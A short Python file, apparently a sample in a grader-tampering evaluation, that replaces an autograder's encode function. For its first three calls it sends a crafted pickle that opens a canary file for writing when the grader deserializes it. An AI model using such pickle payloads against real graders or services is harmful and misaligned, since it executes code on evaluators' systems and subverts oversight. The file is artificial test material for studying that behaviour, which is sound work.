"""Send a pickle that runs code in the grader when it is read.

where: instead
expect: costs own
says: not the encoding of a value
"""
from autograder.wire import values

honest_encode, left = values.encode, [3]
target = CANARY_WRITE


def encode(value, **options):
    left[0] -= 1
    return b"c__builtin__\nopen\n(V" + target.encode() + b"\nVw\ntR." if left[0] >= 0 else honest_encode(value, **options)


values.encode = encode
mean = diff = var = 0
